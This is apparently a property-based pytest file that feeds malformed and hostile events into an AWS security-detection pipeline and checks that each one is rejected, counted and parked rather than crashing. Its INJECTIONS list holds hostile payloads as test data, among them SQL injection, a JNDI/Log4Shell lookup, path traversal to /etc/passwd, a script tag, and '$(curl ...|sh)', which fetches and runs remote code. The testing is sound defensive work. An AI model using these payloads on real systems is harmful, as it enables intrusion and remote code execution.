"""Malformed and hostile events through the Detect path (property-based): whatever arrives, the function
returns a decision instead of raising, rejects what it cannot read with a reason, counts it, and parks it
in the dead-letter queue; nothing named by an attacker is ever remediated unless it is a real immutable
server."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from aws_lambda_powertools import Metrics
from detect_load import ACCOUNT, EVENTS, DetectWorld, detect_world
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from immutable_guard.pipeline import process_event

INJECTIONS = [
    "i-0abc'; DROP TABLE ledger;--",
    "${jndi:ldap://203.0.113.9/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "$(curl 203.0.113.9|sh)",
    "{{7*7}}",
    "i-" + "f" * 5000,
    "\u202eexe.txt",
    "\x00\x01\x02",
    "🔥" * 100,
    "arn:aws:iam::111122223333:role/deploy-pipeline\nINJECTED",
]
SAMPLES = sorted(p.name for p in EVENTS.glob("*.json"))

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=50),
    lambda children: (
        st.lists(children, max_size=5) | st.dictionaries(st.text(max_size=10), children, max_size=5)
    ),
    max_leaves=25,
)
hostile_text = st.sampled_from(INJECTIONS) | st.text(max_size=200)
# EventBridge delivers events of at most 256 KB: a field a little below that is the largest that can arrive.
huge_text = st.integers(min_value=50_000, max_value=240_000).map(lambda n: "A" * n)
ACTOR_FIELDS = (["detail", "userAgent"], ["detail", "userIdentity", "arn"], ["detail", "sourceIPAddress"])


@pytest.fixture(scope="module")
def world() -> Iterator[DetectWorld]:
    with detect_world(immutable=3, mutable=3) as built:
        yield built


def _sample(name: str) -> dict[str, Any]:
    return dict(json.loads((EVENTS / name).read_text("utf-8")))


def _set_path(event: dict[str, Any], path: list[str], value: Any) -> dict[str, Any]:
    node: Any = event
    for key in path[:-1]:
        if not isinstance(node.get(key), dict):
            node[key] = {}
        node = node[key]
    node[path[-1]] = value
    return event


@st.composite
def hostile_events(draw: st.DrawFn) -> Any:
    shape = draw(st.sampled_from(["any_json", "field", "huge", "drop"]))
    if shape == "any_json":
        return draw(json_values)
    event = _sample(draw(st.sampled_from(SAMPLES)))
    paths = [
        ["detail"],
        ["detail", "eventName"],
        ["detail", "eventSource"],
        ["detail", "requestParameters"],
        ["detail", "requestParameters", "instanceId"],
        ["detail", "requestParameters", "groupId"],
        ["detail", "requestParameters", "target"],
        ["detail", "userIdentity"],
        ["detail", "userIdentity", "arn"],
        ["detail", "userAgent"],
        ["detail", "recipientAccountId"],
        ["detail", "configurationItem", "tags"],
        ["detail", "configurationItem", "resourceId"],
        ["detail-type"],
        ["source"],
        ["account"],
        ["id"],
    ]
    path = draw(st.sampled_from(paths))
    if shape == "drop":
        node: Any = event
        for key in path[:-1]:
            node = node.get(key) if isinstance(node, dict) else None
        if isinstance(node, dict):
            node.pop(path[-1], None)
        return event
    if shape == "huge" and path in ACTOR_FIELDS:
        path = ["detail", "requestParameters"]  # huge actor fields: see the huge user agent test
    value = draw(huge_text) if shape == "huge" else draw(hostile_text | json_values)
    return _set_path(event, path, value)


@settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
@given(event=hostile_events())
def test_hostile_input_never_crashes_and_is_rejected_counted_and_parked(
    world: DetectWorld, event: Any
) -> None:
    # Given any event at all; When Detect processes it
    metrics = Metrics(namespace="ImmutableGuardBadInput")
    result = process_event(event, world.settings, world.clients, metrics, expected_account=ACCOUNT)
    counted = {name for name in metrics.metric_set}
    metrics.clear_metrics()
    parked = world.dead_letters()
    # Then it gets a decision, never an exception
    assert result.decision in ("reject", "ignore", "alert", "remediate")
    assert "EventsReceived" in counted
    if result.decision == "reject":
        # rejected clearly (a reason), counted, and parked with its digest
        assert result.reason == "invalid_event" and result.detail
        assert "EventsRejected" in counted
        assert len(parked) == 1
        assert parked[0]["reason"] == "invalid_event" and len(parked[0]["event_sha256"]) == 64
        assert len(json.dumps(parked[0])) < 256 * 1024  # fits in one SQS message
    else:
        assert parked == []
    # an attacker-named instance is never remediated: only real immutable servers are
    assert {i.instance_id for i in result.instances} <= set(world.immutable_ids)


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_strings_as_instance_ids_reach_nothing(world: DetectWorld, value: str) -> None:
    event = _set_path(
        _sample("cloudtrail-send-ssh-public-key.json"), ["detail", "requestParameters", "instanceId"], value
    )
    result = process_event(
        event, world.settings, world.clients, Metrics(namespace="x"), expected_account=ACCOUNT
    )
    world.dead_letters()
    assert result.decision in ("reject", "ignore")
    assert result.instances == []


def _fresh_immutable_server(world: DetectWorld) -> str:
    """A new immutable server like the fleet's: the hostile-input test above may have opened incidents
    on the fleet (samples such as Run Command to every instance reach them all)."""
    ec2 = world.clients.ec2
    model = ec2.describe_instances(InstanceIds=[world.immutable_ids[0]])["Reservations"][0]["Instances"][0]
    launched = ec2.run_instances(
        ImageId=model["ImageId"],
        InstanceType=model["InstanceType"],
        SubnetId=model["SubnetId"],
        MinCount=1,
        MaxCount=1,
        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "immutable", "Value": "true"}]}],
    )
    return str(launched["Instances"][0]["InstanceId"])


def test_a_huge_user_agent_is_alerted_not_crashed_on(world: DetectWorld) -> None:
    event = _sample("cloudtrail-send-ssh-public-key.json")
    event["detail"]["requestParameters"]["instanceId"] = _fresh_immutable_server(world)
    event["detail"]["userAgent"] = "A" * 150_000
    assert len(json.dumps(event)) < 256 * 1024
    result = process_event(
        event, world.settings, world.clients, Metrics(namespace="x"), expected_account=ACCOUNT
    )
    assert result.decision == "remediate" and result.alerted
